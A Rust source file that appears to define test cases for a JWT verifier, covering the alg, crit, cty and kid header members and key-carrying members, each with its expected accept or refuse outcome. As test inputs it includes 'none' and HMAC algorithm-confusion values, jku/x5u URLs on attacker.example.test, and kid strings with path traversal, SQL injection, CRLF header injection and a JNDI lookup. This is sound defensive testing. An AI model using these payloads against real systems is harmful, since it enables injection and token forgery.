//! Members of the header.

use requires_auth_testkit::{Algorithm, SigningKey};
use serde_json::{Value, json};

use crate::case::{Case, Finished};
use crate::key_sets::{KeySet, jwk_with};
use crate::tokens::{Text, es384, good, with_header};

pub fn cases() -> Vec<Finished> {
    let mut cases = algorithm();
    cases.extend(critical());
    cases.extend(content_type());
    cases.extend(brought_along());
    cases.extend(key_id());
    cases
}

/// A good token whose header has one member of this value.
fn with(name: &str, value: impl Into<Value>) -> String {
    good(es384()).header(name, value).mint()
}

fn algorithm() -> Vec<Finished> {
    let case = |id: &str, row, about: &str| Case::new(format!("alg-{id}"), row, about).alg(None);
    let malformed = |id: &str, about: &str, token| case(id, "C05", about).token(token).refuse("malformed");
    let not_allowed = |id: &str, row, alg: &str| {
        case(id, row, &format!("the header says {alg:?}"))
            .token(with("alg", alg))
            .refuse("algorithm_not_allowed")
    };
    let with_list = |id: &str, about: &str, list: Value| {
        case(id, "C07", about).alg("ES384").with("alg", list).token(good(es384()).mint())
    };
    vec![
        malformed("absent", "no alg", good(es384()).without_header("alg").mint()),
        malformed("null", "alg is null", with("alg", Value::Null)),
        malformed("number", "alg is a number", with("alg", 384)),
        malformed("array", "alg is an array", with("alg", json!(["ES384"]))),
        malformed("object", "alg is an object", with("alg", json!({ "name": "ES384" }))),
        malformed("header-empty", "a header without members", with_header("{}")),
        case("right-case", "C05", "the name as registered").alg("ES384").token(with("alg", "ES384")).accept(),
        not_allowed("empty", "C05", ""),
        not_allowed("unknown", "C05", "XS384"),
        not_allowed("space-before", "C05", " ES384"),
        not_allowed("space-after", "C05", "ES384 "),
        not_allowed("nul-after", "C05", "ES384\0"),
        not_allowed("mixed-case", "C05", "Es384"),
        not_allowed("look-alike", "C05", "E\u{405}384"),
        not_allowed("none-upper", "C06", "NONE"),
        not_allowed("none-mixed", "C06", "nOnE"),
        not_allowed("none-capital", "C06", "None"),
        not_allowed("none-space", "C06", "none "),
        not_allowed("hs256", "C08", "HS256"),
        not_allowed("hs384", "C08", "HS384"),
        not_allowed("hs512", "C08", "HS512"),
        not_allowed("encryption", "C05", "RSA-OAEP"),
        not_allowed("es384-oid", "C05", "1.2.840.10045.4.3.3"),
        with_list("list-one", "the list has the algorithm", json!(["ES384"])).accept(),
        with_list("list-many", "the list has it among others", json!(["RS256", "ES384", "EdDSA"])).accept(),
        with_list("list-other", "the list lacks the algorithm", json!(["RS256", "ES256"]))
            .refuse("algorithm_not_allowed"),
        with_list("list-hmac-only", "no name of the list is usable", json!(["HS256"]))
            .refuse("algorithm_not_allowed"),
        with_list("list-none-only", "no name of the list is usable", json!(["none"]))
            .refuse("algorithm_not_allowed"),
        with_list("list-empty", "the list is empty", json!([])).refuse("algorithm_not_allowed"),
        with_list("list-wrong-case", "the list has the name in the wrong case", json!(["es384"]))
            .refuse("algorithm_not_allowed"),
    ]
}

fn critical() -> Vec<Finished> {
    let refuse = |id: &str, row, about: &str, token: String| {
        Case::new(format!("crit-{id}"), row, about).token(token).refuse("critical_header")
    };
    let crit = |value: Value| with("crit", value);
    vec![
        Case::new("crit-absent", "C10", "an unknown member that is not critical")
            .token(with("urn:example:unknown", true))
            .accept(),
        refuse(
            "unknown",
            "C10",
            "an unknown extension",
            good(es384()).header("crit", json!(["x"])).header("x", 1).mint(),
        ),
        refuse(
            "known-and-unknown",
            "C10",
            "b64 and an unknown extension",
            good(es384()).header("crit", json!(["b64", "x"])).header("b64", true).header("x", 1).mint(),
        ),
        refuse("dpop-like", "C10", "a member that this token has not", crit(json!(["jkt"]))),
        refuse("empty", "C11", "an empty list", crit(json!([]))),
        refuse("string", "C11", "a string", crit(json!("exp"))),
        refuse("null", "C11", "null", crit(Value::Null)),
        refuse("object", "C11", "an object", crit(json!({ "exp": true }))),
        refuse("number-entry", "C11", "an entry that is no string", crit(json!([1]))),
        refuse(
            "twice",
            "C11",
            "an entry twice",
            good(es384()).header("crit", json!(["x", "x"])).header("x", 1).mint(),
        ),
        refuse("absent-member", "C11", "a name that the header lacks", crit(json!(["exp"]))),
        refuse("registered-name", "C11", "a name that needs no crit", crit(json!(["alg"]))),
        Case::new("crit-none-plain", "C11", "no crit at all").token(good(es384()).mint()).accept(),
        refuse(
            "b64-false",
            "C12",
            "b64 false, as in RFC 7797",
            good(es384()).header("crit", json!(["b64"])).header("b64", false).mint(),
        ),
        refuse("b64-false-not-critical", "C12", "b64 false without crit", with("b64", false)),
        refuse(
            "b64-true-critical",
            "C12",
            "b64 true, but critical",
            good(es384()).header("crit", json!(["b64"])).header("b64", true).mint(),
        ),
        refuse("b64-string", "C12", "b64 as a string", with("b64", "true")),
        refuse("b64-null", "C12", "b64 null", with("b64", Value::Null)),
        refuse("b64-zero", "C12", "b64 as a number", with("b64", 0)),
        Case::new("crit-b64-true", "C12", "b64 true says what holds anyway")
            .token(with("b64", true))
            .accept(),
    ]
}

fn content_type() -> Vec<Finished> {
    let nested = |id: &str, cty: &str| {
        Case::new(format!("cty-{id}"), "C25", format!("the content is {cty:?}: a token inside the token"))
            .token(with("cty", cty))
            .refuse("type_not_allowed")
    };
    let plain = |id: &str, cty: &str| {
        Case::new(format!("cty-{id}"), "C25", format!("the content is {cty:?}"))
            .token(with("cty", cty))
            .accept()
    };
    vec![
        nested("jwt", "JWT"),
        nested("jwt-lower", "jwt"),
        nested("jwt-long", "application/jwt"),
        nested("jwt-long-mixed", "Application/JWT"),
        nested("at-jwt", "at+jwt"),
        nested("at-jwt-long", "application/at+jwt"),
        nested("logout", "logout+jwt"),
        plain("json", "json"),
        plain("json-long", "application/json"),
    ]
}

fn brought_along() -> Vec<Finished> {
    let other = SigningKey::second(Algorithm::Es384);
    let ignored = |name: &str, value: Value| {
        Case::new(
            format!("header-{}-ignored", slug(name)),
            "C13",
            format!("a good token that also has {name}"),
        )
        .token(with(name, value))
        .accept()
    };
    let useless = |name: &str, value: Value, kid: Option<&str>| {
        let token = good(other).header(name, value);
        match kid {
            // Claims to be the known key.
            Some(kid) => Case::new(
                format!("header-{}-known-kid", slug(name)),
                "C13",
                format!("another key signed and is brought along as {name}"),
            )
            .token(token.header("kid", kid).mint())
            .refuse("signature_mismatch"),
            None => Case::new(
                format!("header-{}-own-kid", slug(name)),
                "C13",
                format!("an unknown key is brought along as {name}"),
            )
            .token(token.mint())
            .refuse("key_unknown"),
        }
    };
    let members = [
        ("jwk", other.public_jwk()),
        ("jku", json!("https://attacker.example.test/jwks.json")),
        ("x5u", json!("https://attacker.example.test/chain.pem")),
        ("x5c", json!(["MIIBCgKCAQEA"])),
        ("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA")),
        ("x5t#S256", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")),
    ];
    let mut cases = Vec::new();
    for (name, value) in members {
        cases.push(ignored(name, value.clone()));
        cases.push(useless(name, value.clone(), Some(es384().kid())));
        cases.push(useless(name, value, None));
    }
    cases
}

/// A member name as a part of an id.
fn slug(name: &str) -> String {
    name.to_lowercase().replace('#', "-")
}

fn key_id() -> Vec<Finished> {
    let malformed = |id: &str, about: &str, value: Value| {
        Case::new(format!("kid-{id}"), "C14", about).token(with("kid", value)).refuse("malformed")
    };
    let unknown = |id: &str, about: &str, kid: &str| {
        Case::new(format!("kid-{id}"), "C14", about).token(with("kid", kid)).refuse("key_unknown")
    };
    let known = |id: &str, about: &str, kid: &str| {
        let keys = KeySet::of_jwks(format!("es384-kid-{id}"), [jwk_with(es384(), "kid", kid)]);
        Case::new(format!("kid-{id}-known"), "C14", about).keys(keys).token(with("kid", kid))
    };
    let upper = es384().kid().to_uppercase();
    let longer = format!("{}A", es384().kid());
    vec![
        malformed("null", "kid is null", Value::Null),
        malformed("number", "kid is a number", json!(1)),
        malformed("array", "kid is an array", json!([es384().kid()])),
        malformed("object", "kid is an object", json!({})),
        unknown("empty", "an empty kid is a kid", ""),
        unknown("path", "a path", "../../../../dev/null"),
        unknown("sql", "SQL", "' OR 1=1 --"),
        unknown("url", "a URL", "https://attacker.example.test/key"),
        unknown("line-break", "a line break and a log line", "x\r\nSet-Cookie: a=b"),
        unknown("quote", "quotes and backslashes", "\"\\\", error=\"none"),
        unknown("format", "a format string", "%s%n{0}${jndi:ldap://attacker.example.test/}"),
        unknown("long", "2000 letters", &"k".repeat(2000)),
        unknown("other-case", "the kid of the key in another case", &upper),
        unknown("longer", "the kid of the key and one letter more", &longer),
        unknown("prefix", "the first letters of the kid of the key", &es384().kid()[..10]),
        known("empty", "an empty kid that the key has too", "").accept(),
        known("unicode", "a kid outside ASCII", "schl\u{fc}ssel \u{1f511}").accept(),
        known("path", "a kid that looks like a path", "../keys/1").accept(),
        known("1024", "a kid of 1024 bytes", &"k".repeat(1024)).accept(),
        known("1025", "a kid of 1025 bytes makes the key unusable", &"k".repeat(1025)).refuse("key_unknown"),
        Case::new("kid-escaped", "C14", "a kid written with escapes")
            .token(with_header(Text::header().set("kid", &escaped(es384().kid())).json()))
            .accept(),
    ]
}

fn escaped(kid: &str) -> String {
    let letters: Vec<String> = kid.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
    format!("\"{}\"", letters.concat())
}
